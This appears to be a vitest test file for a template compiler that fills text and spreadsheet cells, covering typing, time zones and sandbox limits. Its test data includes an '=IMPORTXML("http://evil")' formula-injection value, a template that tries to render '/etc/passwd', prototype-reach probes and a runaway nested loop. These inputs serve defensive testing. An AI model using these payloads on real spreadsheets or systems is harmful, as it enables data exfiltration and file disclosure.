import { describe, expect, test } from 'vitest';
import { compileTemplate } from '../../../src/mapping/template.ts';

const text = (source: string, context: Record<string, unknown> = {}) => compileTemplate(source).text(context);
const cell = (source: string, context: Record<string, unknown> = {}) => compileTemplate(source).cell(context);

describe('a cell', () => {
  test.each([
    ['{{ price }}', { price: 12.5 }, 12.5],
    ['{{ price }}\n', { price: 0 }, 0],
    ['{{ price | times: 2 }}', { price: 3 }, 6],
    ['{{ deleted }}', { deleted: false }, false],
    ['{{ name }}', { name: 'Ann' }, 'Ann'],
    ['{{ phone }}', { phone: '+4915112345678' }, '+4915112345678'],
    ['{{ name }}', { name: '=IMPORTXML("http://evil")' }, '=IMPORTXML("http://evil")'],
    ['{{ name }}', { name: null }, null],
    ['{{ name }}', {}, null],
    ['{{ name }}', { name: '' }, null],
    ['{{ count }} guests', { count: 2 }, '2 guests'],
    ['{{ a }}{{ b }}', { a: 1, b: 2 }, '12'],
    ['{{ a }} ', { a: null }, null],
    ['{{ names }}', { names: ['Anna', 'Room 1'] }, 'Anna, Room 1'],
    ['{{ metadata }}', { metadata: { a: 1 } }, '{"a":1}'],
    ['{{ n | divided_by: 0 }}', { n: 1 }, null],
  ])('from %j is typed as what it shows', (source, context, expected) => {
    expect(cell(source, context)).toBe(expected);
  });
});

describe('a text', () => {
  test('shows null and absent values as nothing', () => {
    expect(text('[{{ a }}][{{ b }}][{{ c.d.e }}]', { a: null })).toBe('[][][]');
  });

  test('shows times with the offset they carry, not with that of the machine', () => {
    const context = { starts_at: '2026-07-01T10:00:00+02:00' };
    expect(text("{{ starts_at | date: '%Y-%m-%d %H:%M' }}", context)).toBe('2026-07-01 10:00');
  });

  test.each([
    ["{{ at | date: '%a %H:%M', 'America/Edmonton' }}", 'Mon 22:30'],
    ["{{ at | date: '%Y-%m-%d %H:%M %z', zone }}", '2026-12-14 22:30 -0600'],
    ["{{ at | date: '%H:%M %Z 100%%Z', 'america/winnipeg' }}", '23:30 america/winnipeg 100%Z'],
    ["{{ seconds | date: '%H:%M', 'America/Havana' }}", '00:30'],
    ["{{ digits | date: '%H:%M', 'Asia/Kolkata' }}", '10:00'],
    ["{{ at | date: '%H:%M', 'UTC-03:30' }}", '01:00'],
    ["{{ at | date: '%H:%M', 210 }}", '01:00'],
    ["{{ local | date: '%H:%M', none }}", '06:30'],
    ["{{ local | date: '%H:%M', missing }}", '06:30'],
    ["{{ word | date: '%H:%M', 'America/Edmonton' }}", 'soon'],
    ["{{ nothing | date: '%H:%M', 'America/Edmonton' }}", ''],
  ])('shows a time in a zone by the newest rules: %s', (source, shown) => {
    const ms = Date.parse('2026-12-15T04:30:00Z');
    const context = {
      at: '2026-12-15T04:30:00Z',
      zone: 'America/Edmonton',
      seconds: ms / 1000,
      word: 'soon',
      local: '2026-06-15T06:30:00+09:00',
      none: null,
    };
    expect(text(source, { ...context, digits: String(ms / 1000) })).toBe(shown);
  });

  test('with a zone that does not exist is refused', () => {
    const context = { at: '2026-12-15T04:30:00Z', zone: 'Mars' };
    expect(() => text("{{ at | date: '%H:%M', zone }}", context)).toThrow(/cannot be rendered/);
  });

  test('is the same twice', () => {
    const template = compileTemplate('{% increment n %}{{ a }}');
    expect(template.text({ a: 1 })).toBe(template.text({ a: 1 }));
  });

  test('cannot reach behind its context', () => {
    expect(text('{{ constructor }}{{ a.constructor.name }}{{ __proto__ }}', { a: {} })).toBe('');
  });
});

describe('a template that runs away', () => {
  test('is stopped, and the failure quotes nobody', () => {
    const source =
      '{% for i in (1..100000) %}{% for j in (1..100000) %}{{ name | append: name }}{% endfor %}{% endfor %}';
    const failure = (() => {
      try {
        return text(source, { name: 'Nina Weber' });
      } catch (error) {
        return error;
      }
    })();
    expect(failure).toMatchObject({ family: 'terminal', code: 'template-failed' });
    expect(JSON.stringify(failure) + String(failure)).not.toContain('Nina');
  });

  test.each(["{% include 'secret' %}", "{% render '/etc/passwd' %}", "{% layout 'x' %}", '{{ a | sample }}'])(
    'cannot be one that reads files or rolls dice: %s',
    (source) => expect(() => compileTemplate(source)).toThrow('cannot be rendered'),
  );
});

test('a text cut by a template has no half character, which Google would refuse', () => {
  expect(text('{{ name | split: "" | first }}.', { name: '😀 Ada' })).toBe('\ufffd.');
});
